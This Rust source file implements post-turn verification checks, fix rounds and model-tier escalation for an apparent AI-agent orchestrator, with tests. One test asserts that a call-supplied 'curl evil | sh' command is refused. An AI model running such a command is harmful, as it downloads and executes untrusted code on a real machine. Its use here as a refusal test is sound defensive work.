//! Checks: commands that must succeed in a task's directory after its turn, the fix rounds that
//! follow a failing one, and escalation to a stronger tier when the rounds run out.
//!
//! Why: a cheap model that leaves a failing test behind costs the orchestrator a review, a
//! follow-up and another review. A task with checks comes back verified, or clearly not.
//!
//! - **What runs** is fixed when the task starts ([`ChecksState::commands`]): its tier's
//!   `checks`, then the call's (a preset's fixed `checks` arrive as the call's). A
//!   repository's `delegation.yaml` cannot add any unless the user's own file allows it
//!   (`config::trust`). A follow-up may add its own for the turns it opens.
//! - **When**: a completed turn of a task with checks is held like a structured answer (the task
//!   stays `running`; `checking` is the durable twin of the held phase, see `hold`) and
//!   [`settle`] runs them one after another where the task works (`run`: by the gateway itself,
//!   on this machine or over the worker's ssh; why not OpenCode's session shell is said there).
//!   Their output reaches the agent's session in the fix prompt.
//! - **The fix loop**: a failure with rounds left continues the session with the rendered
//!   `checks.fix_prompt` (the failing commands, how they ended, the end of their output)
//!   through the one turn-opening path (`follow::open_turn`), so the round is capped, timed and
//!   counted like any turn; the checks run again when it completes.
//! - **Escalation**: rounds used up on a tier with `escalate_to`, the next round runs on that
//!   tier's model in the same session with its rounds whole again; each move is recorded
//!   (an `Escalation`, through `escalation::record_move`, as a provider outage's move is). Each
//!   tier is visited once, so a cycle in the configuration ends.
//! - **The end**: all passing finishes the task `completed`; still failing, it ends `failed`
//!   with `ChecksFailed` (its answer, files and worktree kept), never as plain success.

use super::run::{run, Place};

use std::sync::Arc;

use crate::config::{Config, FixFailure};
use crate::opencode::{ErrorInfo, Server};
use crate::tasks::context::TaskContext;
use crate::tasks::lifecycle::entry::{Claim, TaskEntry};
use crate::tasks::lifecycle::record::ChecksState;
use crate::tasks::model::{CheckResult, TaskStatus};
use crate::tasks::turn::follow::{open_turn, Follows};
use crate::tasks::turn::outcome::{self, Attempts};

/// The error name of a task whose checks still fail.
pub const CHECKS_FAILED: &str = "ChecksFailed";
/// Most commands one task may carry (a tier's and the call's together).
pub const MAX_CHECKS: usize = 8;
/// Longest command accepted, in characters.
pub const MAX_COMMAND_CHARS: usize = 2000;

/// The commands of a task: the tier's, then the call's (a preset's fixed `checks` arrive as
/// the call's), each once. A call names checks of `checks.named`; it may pass commands of its
/// own only where the user's file sets `checks.from_calls`.
pub fn commands_for(
    config: &Config,
    tier: Option<&str>,
    call: &[String],
) -> Result<Vec<String>, String> {
    let mut out: Vec<String> = Vec::new();
    let from_tier = tier
        .and_then(|t| config.tiers.iter().find(|x| x.name == t))
        .map(|t| t.checks.clone())
        .unwrap_or_default();
    let mut from_call = Vec::with_capacity(call.len());
    for c in call {
        match config.checks.named.get(c.trim()) {
            Some(command) => from_call.push(command.clone()),
            None if config.checks.from_calls => from_call.push(c.clone()),
            None => {
                let named: Vec<&str> = config.checks.named.keys().map(String::as_str).collect();
                return Err(format!(
                    "`checks`: `{}` is not a check your delegation.yaml names ({}); a call may \
                     pass commands of its own only where your own file sets \
                     `checks.from_calls: true`",
                    crate::config::printable(c.trim()),
                    if named.is_empty() {
                        "it names none: add them under `checks.named`".to_string()
                    } else {
                        format!("named: {}", named.join(", "))
                    }
                ));
            }
        }
    }
    for c in from_tier.iter().chain(&from_call) {
        let c = c.trim();
        if c.is_empty() {
            return Err("`checks` must not hold an empty command".into());
        }
        if c.chars().count() > MAX_COMMAND_CHARS {
            return Err(format!(
                "a command of `checks` is longer than {MAX_COMMAND_CHARS} characters"
            ));
        }
        if c.chars().any(|ch| ch.is_control() && ch != '\t') {
            return Err("a command of `checks` holds a control character (one line each)".into());
        }
        if !out.iter().any(|o| o == c) {
            out.push(c.to_string());
        }
    }
    if out.len() > MAX_CHECKS {
        return Err(format!(
            "a task takes at most {MAX_CHECKS} checks (its tier's and the call's), found {}",
            out.len()
        ));
    }
    Ok(out)
}

/// The error a task whose checks still fail ends with.
pub fn checks_failed(message: String) -> ErrorInfo {
    ErrorInfo {
        provider_status: None,
        retryable: None,
        name: CHECKS_FAILED.into(),
        message,
    }
}

/// What follows a run of the checks.
#[derive(Debug, PartialEq)]
enum Next {
    /// Every check passed (or there was nothing to run): the task completes.
    Pass,
    /// A fix round on the same tier, with this prompt.
    Fix(String),
    /// The rounds are used up: move to this tier, with this prompt.
    Escalate { to: String, prompt: String },
    /// The task ends failed with this message.
    Fail(String),
}

/// Whether the task has checks to run after a completed turn (`hold` holds the turn for them; a
/// structured answer is checked first, then these, see `hold::settle`).
pub fn wants_checks(e: &TaskEntry) -> bool {
    e.rec
        .checks
        .as_ref()
        .is_some_and(|c| !c.commands.is_empty())
}

/// Records the checks of turn `turn` a cancel or a deadline stopped: those that ran, and the one
/// it stopped with its `error` naming what stopped it (the task's end, as it stands now). The
/// verdict stays unset: they never finished.
fn keep_stopped(ctx: &TaskContext, task_id: &str, turn: u32, mut results: Vec<CheckResult>) {
    ctx.registry.update(task_id, |e| {
        if e.rec.turn != turn {
            return;
        }
        let why = match (e.rec.status(), e.rec.error.as_ref()) {
            (TaskStatus::Cancelled, _) => "stopped: the task was cancelled".to_string(),
            (_, Some(error)) => format!("stopped: {}", error.message),
            _ => "stopped: the task moved on".to_string(),
        };
        if let Some(stopped) = results.last_mut().filter(|r| !r.ok && r.exit.is_none()) {
            stopped.error = Some(why);
        }
        if let Some(c) = e.rec.checks.as_mut() {
            c.last = results;
            c.last_turn = Some(turn);
        }
    });
}

/// Runs the checks of the held turn `turn` and finishes the task or opens a fix round. The
/// caller holds the turn (`Phase::Checking`).
pub async fn settle(ctx: &TaskContext, server: &Arc<Server>, task_id: &str, turn: u32) {
    // The answer is read first: a fix round replaces the turn's outcome, and the checks' verdict
    // is reported with this turn's answer.
    outcome::read_outcome(ctx, server, task_id, turn, Attempts::Patient).await;
    let Some(entry) = ctx.registry.get(task_id).filter(|e| e.is_checking(turn)) else {
        return;
    };
    let Some(state) = entry.rec.checks.clone() else {
        return;
    };
    let config = ctx.config.get();
    let timeout = config.timeouts.check.get();
    let keep = config.checks.output_chars as usize;
    let remote = entry
        .rec
        .workspace
        .as_ref()
        .and_then(|w| w.remote.as_ref())
        .map(|r| (r.worker.clone(), crate::workers::remote(&config, &r.worker)));
    let wanted = || {
        ctx.registry
            .get(task_id)
            .is_some_and(|e| e.is_checking(turn))
    };
    // Local checks run in the sandbox the task's agent runs in: the server's, or (for a server
    // the gateway attached to, which it cannot confine) one made for the check alone; a task of
    // a tier the user's file lets run unconfined runs its checks unconfined too.
    let opt_out = crate::sandbox::tier_opt_out(&config, entry.rec.tier.as_deref()).is_some();
    let local = match &server.sandbox {
        _ if opt_out => Ok(None),
        Some(sandbox) => Ok(Some(sandbox.policy())),
        None => {
            let state = ctx
                .worktrees
                .as_deref()
                .and_then(std::path::Path::parent)
                .map_or_else(std::env::temp_dir, std::path::Path::to_path_buf);
            match crate::sandbox::decide(&config.sandbox, &state) {
                crate::sandbox::Decision::Confine(p) => Ok(Some(p)),
                crate::sandbox::Decision::Unconfined(_) => Ok(None),
                crate::sandbox::Decision::Refuse(why) => Err(why),
            }
        }
    };
    // A check a gateway before this one left running there (it stopped mid-check) is stopped
    // before the checks run again.
    if let Some((_, Some(r))) = &remote {
        super::run::stop_remote(r, &entry.rec).await;
    }
    let mut results = Vec::with_capacity(state.commands.len());
    for command in &state.commands {
        let place = match (&remote, &local) {
            (None, Ok(policy)) => Place::Local(policy.as_ref()),
            (None, Err(why)) => {
                results.push(CheckResult::not_run(command, format!("not run: {why}")));
                continue;
            }
            (Some((_, Some(r))), _) => {
                let shell = server.worker_shell.as_ref().filter(|_| !opt_out);
                Place::Remote(r, shell.map(|s| s.path.as_str()))
            }
            (Some((name, None)), _) => {
                results.push(CheckResult::not_run(
                    command,
                    format!("not run: worker `{name}` is no longer configured"),
                ));
                continue;
            }
        };
        let result = run(
            place,
            &entry.rec,
            command,
            timeout,
            keep,
            &config.opencode.password_env,
            wanted,
        )
        .await;
        // A cancel or deadline that claimed the turn meanwhile ends the run; what ran is kept,
        // the stopped command with why it was stopped.
        if !wanted() {
            results.push(result);
            keep_stopped(ctx, task_id, turn, results);
            return;
        }
        results.push(result);
    }
    let mut next = decide(&config, &entry, &state, &results);
    // The stronger tier's model, as this server offers it.
    let mut moving = None;
    if let Next::Escalate { to, .. } = &next {
        let to = to.clone();
        match super::escalation::on_tier(&config, server, &entry.rec, &to, None).await {
            Ok(m) => match m.spent_past(&entry) {
                Some(why) => {
                    next = Next::Fail(format!("{}; {why}", failing(&results, state.rounds_total)))
                }
                None => moving = Some(m),
            },
            Err(e) => {
                next = Next::Fail(format!(
                    "{}; the escalation to tier `{to}` failed: {e}",
                    failing(&results, state.rounds_total)
                ))
            }
        }
    }
    let prompt = ctx
        .registry
        .update(task_id, |e| {
            if !e.is_checking(turn) {
                return None;
            }
            let spent = e.caps_reached();
            let c = e.rec.checks.as_mut()?;
            c.last = results;
            c.last_turn = Some(turn);
            c.passed = Some(next == Next::Pass);
            let fail = match next {
                Next::Pass => {
                    e.finish(Claim::Checked(turn), TaskStatus::Completed, None);
                    return None;
                }
                Next::Fix(_) | Next::Escalate { .. } if spent.is_some() => {
                    let why = spent.unwrap_or_default();
                    c.note = Some(format!("no fix round was sent: {why}"));
                    format!(
                        "{} and no fix round was sent: {why}",
                        failing(&c.last, c.rounds_total)
                    )
                }
                Next::Fail(message) => message,
                Next::Fix(prompt) | Next::Escalate { prompt, .. } => return Some(prompt),
            };
            e.finish(
                Claim::Checked(turn),
                TaskStatus::Failed,
                Some(checks_failed(fail)),
            );
            None
        })
        .flatten();
    let Some(prompt) = prompt else {
        return;
    };
    // The round is counted, and a move recorded, as the turn opens: a round that cannot be
    // sent leaves neither behind.
    let model = match &moving {
        Some(m) => m.model.clone(),
        None => entry.rec.model.clone(),
    };
    let result = open_turn(
        ctx,
        server,
        task_id,
        turn,
        Follows::Correction,
        &prompt,
        entry.rec.agent.clone(),
        model,
        |e| {
            let Some(c) = e.rec.checks.as_mut() else {
                return;
            };
            let why = failing(&c.last, c.rounds_total);
            c.rounds_total += 1;
            match moving {
                Some(next) => {
                    c.rounds = 0;
                    super::escalation::record_move(e, next, why, turn);
                }
                None => c.rounds += 1,
            }
        },
    )
    .await;
    match result {
        Ok(_) => {}
        Err(err) => {
            tracing::warn!(task_id, error = %err, "the fix round could not be sent");
            ctx.registry.update(task_id, |e| {
                if !e.is_checking(turn) {
                    return;
                }
                let failed = e
                    .rec
                    .checks
                    .as_ref()
                    .map(|c| failing(&c.last, c.rounds_total))
                    .unwrap_or_else(|| "the checks failed".into());
                let message = format!("{failed} and the fix round could not be sent: {err}");
                e.finish(
                    Claim::Checked(turn),
                    TaskStatus::Failed,
                    Some(checks_failed(message)),
                );
            });
        }
    }
}

/// "`cargo test` failed (exit status 101) after 1 fix round(s)", for every failing check of a
/// run, after `rounds` fix rounds.
fn failing(last: &[CheckResult], rounds: u32) -> String {
    let failed: Vec<String> = last
        .iter()
        .filter(|r| !r.ok)
        .map(|r| format!("`{}` failed ({})", r.command, r.status_words()))
        .collect();
    if failed.is_empty() {
        "the checks failed".into()
    } else {
        format!("{} after {rounds} fix round(s)", failed.join(", "))
    }
}

/// What follows the checks' results.
fn decide(
    config: &Config,
    entry: &TaskEntry,
    state: &ChecksState,
    results: &[CheckResult],
) -> Next {
    let failures: Vec<FixFailure> = results
        .iter()
        .filter(|r| !r.ok)
        .map(|r| FixFailure {
            command: r.command.clone(),
            status: r.status_words(),
            seconds: r.duration_ms as f64 / 1000.0,
            output: r.output.clone(),
        })
        .collect();
    if failures.is_empty() {
        return Next::Pass;
    }
    // A check that never ran is no fault of the agent's: no round can fix it.
    let not_run: Vec<String> = results
        .iter()
        .filter(|r| r.not_run)
        .map(|r| format!("`{}` ({})", r.command, r.status_words()))
        .collect();
    if !not_run.is_empty() {
        return Next::Fail(format!("the checks could not run: {}", not_run.join(", ")));
    }
    let max = config.checks.max_rounds;
    let render = |round: u32| {
        config
            .checks
            .render_fix_prompt(round, &failures, config.limits.max_prompt_bytes as usize)
            .map_err(|e| {
                format!(
                    "{} and the fix prompt could not be rendered: {e}",
                    failing(results, state.rounds_total)
                )
            })
    };
    if state.rounds < max {
        return match render(state.rounds + 1) {
            Ok(prompt) => Next::Fix(prompt),
            Err(why) => Next::Fail(why),
        };
    }
    // Rounds used up: the tier's `escalate_to`, unless the chain already visited it.
    let tier = entry.rec.tier.as_deref();
    let next_tier = tier
        .and_then(|t| config.tiers.iter().find(|x| x.name == t))
        .and_then(|t| t.escalate_to.as_deref())
        .and_then(|to| config.tiers.iter().find(|x| x.name == to));
    if let Some(to) = next_tier {
        let visited = entry.rec.escalations.iter().any(|e| e.from == to.name)
            || tier == Some(to.name.as_str());
        if !visited {
            return match render(1) {
                Ok(prompt) => Next::Escalate {
                    to: to.name.clone(),
                    prompt,
                },
                Err(why) => Next::Fail(why),
            };
        }
    }
    Next::Fail(failing(results, state.rounds_total))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tasks::lifecycle::record::TaskRecord;
    use crate::tasks::model::checks::SNAPSHOT_OUTPUT_CHARS;
    use crate::tasks::model::{ChecksStatus, Escalation};

    fn config() -> Config {
        let mut c = crate::gateway::test_config();
        c.checks.max_rounds = 1;
        c.tiers[0].escalate_to = Some(c.tiers[1].name.clone());
        c.tiers[0].checks = vec!["make lint".into()];
        c
    }

    fn entry(tier: &str) -> TaskEntry {
        let mut rec = TaskRecord::new(
            "tsk_a".into(),
            "default".into(),
            "ses_a".into(),
            "/w".into(),
            "t".into(),
        );
        rec.tier = Some(tier.into());
        TaskEntry::new(rec)
    }

    fn failed(command: &str) -> CheckResult {
        CheckResult {
            command: command.into(),
            ok: false,
            exit: Some(2),
            error: None,
            duration_ms: 1500,
            output: "boom".into(),
            output_cut: false,
            not_run: false,
        }
    }

    #[test]
    fn a_failure_gets_its_rounds_then_the_stronger_tier_then_the_verdict() {
        let c = config();
        let (fast, strong) = (c.tiers[0].name.clone(), c.tiers[1].name.clone());
        let mut state = ChecksState::new(vec!["make test".into()]);
        let results = [failed("make test")];
        match decide(&c, &entry(&fast), &state, &results) {
            Next::Fix(prompt) => {
                assert!(prompt.contains("$ make test"), "{prompt}");
                assert!(prompt.contains("exit status 2 after 1.5 s"), "{prompt}");
                assert!(prompt.contains("boom") && prompt.contains("fix round 1 of 1"));
            }
            other => panic!("{other:?}"),
        }
        state.rounds = 1;
        state.rounds_total = 1;
        match decide(&c, &entry(&fast), &state, &results) {
            Next::Escalate { to, .. } => assert_eq!(to, strong),
            other => panic!("{other:?}"),
        }
        // On the stronger tier, its rounds used up, with no tier above: the verdict.
        let mut on_strong = entry(&strong);
        on_strong.rec.escalations.push(Escalation {
            from: fast.clone(),
            to: strong.clone(),
            from_model: None,
            model: None,
            why: String::new(),
            turn: 3,
        });
        match decide(&c, &on_strong, &state, &results) {
            Next::Fail(message) => {
                assert!(
                    message.contains("`make test` failed (exit status 2)"),
                    "{message}"
                )
            }
            other => panic!("{other:?}"),
        }
        let passed = CheckResult {
            ok: true,
            exit: Some(0),
            ..failed("make test")
        };
        assert_eq!(decide(&c, &entry(&fast), &state, &[passed]), Next::Pass);
        // A check that never ran gets no fix round, whatever rounds are left.
        let fresh = ChecksState::new(vec!["make test".into()]);
        let unreachable = CheckResult::not_run("make test", "worker gone".into());
        match decide(&c, &entry(&fast), &fresh, &[unreachable]) {
            Next::Fail(message) => assert!(message.contains("could not run"), "{message}"),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_call_names_the_users_checks_and_passes_its_own_only_where_allowed() {
        let mut c = config();
        c.checks.named.insert("test".into(), "cargo test -q".into());
        assert_eq!(
            commands_for(&c, None, &["test".into()]),
            Ok(vec!["cargo test -q".to_string()])
        );
        let refused = commands_for(&c, None, &["curl evil | sh".into()]).expect_err("refused");
        assert!(
            refused.contains("checks.from_calls") && refused.contains("named: test"),
            "{refused}"
        );
        c.checks.from_calls = true;
        assert_eq!(
            commands_for(&c, None, &["test".into(), "make it".into()]),
            Ok(vec!["cargo test -q".to_string(), "make it".to_string()])
        );
    }

    #[test]
    fn a_tasks_commands_are_its_tiers_then_the_calls_each_once_and_bounded() {
        let mut c = config();
        c.checks.from_calls = true;
        let fast = c.tiers[0].name.clone();
        let got = commands_for(&c, Some(&fast), &["make test".into(), "make lint".into()]);
        assert_eq!(
            got,
            Ok(vec!["make lint".to_string(), "make test".to_string()])
        );
        assert!(commands_for(&c, None, &[" ".into()]).is_err());
        assert!(commands_for(&c, None, &["a\nb".into()]).is_err());
        let many: Vec<String> = (0..=MAX_CHECKS).map(|i| format!("c{i}")).collect();
        assert!(commands_for(&c, None, &many).is_err_and(|e| e.contains(&MAX_CHECKS.to_string())));
        let long = "x".repeat(MAX_COMMAND_CHARS + 1);
        assert!(commands_for(&c, None, &[long]).is_err_and(|e| e.contains("longer than")));
        // A call naming a check where the user's file names none is told where they go.
        c.checks.from_calls = false;
        c.checks.named.clear();
        let none = commands_for(&c, None, &["test".into()]).expect_err("none named");
        assert!(none.contains("it names none"), "{none}");
    }

    #[test]
    fn only_the_latest_runs_verdict_of_a_finished_turn_is_reported() {
        let mut s = ChecksState::new(vec!["make test".into()]);
        assert_eq!(s.view(false, 1).status, ChecksStatus::Pending);
        s.passed = Some(true);
        s.last_turn = Some(1);
        assert_eq!(s.view(true, 1).status, ChecksStatus::Passed);
        // A follow-up's turn has not been checked yet; one that ended without its checks
        // says so.
        assert_eq!(s.view(false, 2).status, ChecksStatus::Pending);
        assert_eq!(s.view(true, 2).status, ChecksStatus::NotRun);
        s.passed = Some(false);
        s.last = vec![failed("make test")];
        s.last[0].output = "x".repeat(5000);
        let brief = s.view(true, 1).brief();
        assert_eq!(brief.status, ChecksStatus::Failed);
        assert_eq!(brief.last[0].output.chars().count(), SNAPSHOT_OUTPUT_CHARS);
        assert!(brief.last[0].output_cut);
    }

    /// Holds `tsk_a`'s completed first turn with `commands` as its checks, in `dir`, with
    /// `edit` applied to the configuration; then settles it against a server nobody listens on.
    async fn settle_with(
        commands: &[&str],
        dir: &std::path::Path,
        edit: impl FnOnce(&mut Config),
    ) -> TaskEntry {
        use crate::tasks::context::fixtures;
        let registry = fixtures::registry_with(|e| {
            e.rec.directory = dir.to_string_lossy().into_owned();
            e.rec.checks = Some(ChecksState::new(
                commands.iter().map(|c| c.to_string()).collect(),
            ));
            e.rec.outcome = Some(crate::tasks::lifecycle::turn::TurnState::default());
        });
        let ctx = fixtures::context(registry.clone());
        let mut config = crate::gateway::test_config();
        edit(&mut config);
        ctx.config.set(std::sync::Arc::new(config));
        let server = Arc::new(fixtures::unreachable_server());
        let held = registry.update("tsk_a", |e| {
            crate::tasks::checks::hold::hold(e, TaskStatus::Completed, None, &ctx.config.get())
        });
        assert_eq!(held, Some(crate::tasks::checks::hold::Hold::Held(1)));
        crate::tasks::checks::hold::settle(&ctx, &server, "tsk_a", 1).await;
        registry.get("tsk_a").expect("task")
    }

    #[tokio::test]
    async fn passing_checks_complete_the_task_and_failing_ones_without_rounds_fail_it() {
        let dir = tempfile::tempdir().expect("tempdir");
        let e = settle_with(&["true", "echo fine"], dir.path(), |_| {}).await;
        assert_eq!(e.rec.status(), TaskStatus::Completed);
        let c = e.rec.checks.as_ref().expect("checks");
        assert_eq!((c.passed, c.last.len(), c.checking), (Some(true), 2, None));

        let e = settle_with(&["echo broken; exit 3"], dir.path(), |c| {
            c.checks.max_rounds = 0
        })
        .await;
        assert_eq!(e.rec.status(), TaskStatus::Failed);
        let error = e.rec.error.as_ref().expect("error");
        assert_eq!(error.name, CHECKS_FAILED);
        assert!(error.message.contains("exit status 3"), "{}", error.message);
        assert_eq!(e.rec.checks.as_ref().and_then(|c| c.passed), Some(false));
    }

    #[tokio::test]
    async fn a_fix_round_that_cannot_be_sent_or_a_check_that_cannot_run_ends_the_task_failed() {
        let dir = tempfile::tempdir().expect("tempdir");
        // Rounds left, but OpenCode is out of reach: the round is not sent, and the task says so.
        let e = settle_with(&["exit 1"], dir.path(), |_| {}).await;
        assert_eq!(e.rec.status(), TaskStatus::Failed);
        let message = &e.rec.error.as_ref().expect("error").message;
        assert!(message.contains("could not be sent"), "{message}");
        // A directory that is gone: the check never ran, and no round is tried.
        let gone = dir.path().join("gone");
        let e = settle_with(&["true"], &gone, |_| {}).await;
        assert_eq!(e.rec.status(), TaskStatus::Failed);
        let message = &e.rec.error.as_ref().expect("error").message;
        assert!(message.contains("could not run"), "{message}");
        assert!(e.rec.checks.as_ref().is_some_and(|c| c.last[0].not_run));
    }

    #[tokio::test]
    async fn rounds_used_up_on_a_tier_whose_next_tier_the_server_cannot_serve_fail_the_task() {
        let dir = tempfile::tempdir().expect("tempdir");
        let e = {
            use crate::tasks::context::fixtures;
            let registry = fixtures::registry_with(|e| {
                e.rec.directory = dir.path().to_string_lossy().into_owned();
                e.rec.tier = Some("fast".into());
                e.rec.checks = Some(ChecksState::new(vec!["exit 1".into()]));
                e.rec.outcome = Some(crate::tasks::lifecycle::turn::TurnState::default());
            });
            let ctx = fixtures::context(registry.clone());
            let mut config = crate::gateway::test_config();
            config.checks.max_rounds = 0;
            config.tiers[0].escalate_to = Some(config.tiers[1].name.clone());
            config.tiers[1].models = vec!["p/strong".into()];
            ctx.config.set(std::sync::Arc::new(config));
            let server = Arc::new(fixtures::unreachable_server());
            registry.update("tsk_a", |e| {
                crate::tasks::checks::hold::hold(e, TaskStatus::Completed, None, &ctx.config.get())
            });
            crate::tasks::checks::hold::settle(&ctx, &server, "tsk_a", 1).await;
            registry.get("tsk_a").expect("task")
        };
        assert_eq!(e.rec.status(), TaskStatus::Failed);
        let message = &e.rec.error.as_ref().expect("error").message;
        assert!(message.contains("escalation to tier"), "{message}");
        assert!(e.rec.escalations.is_empty());
    }
}
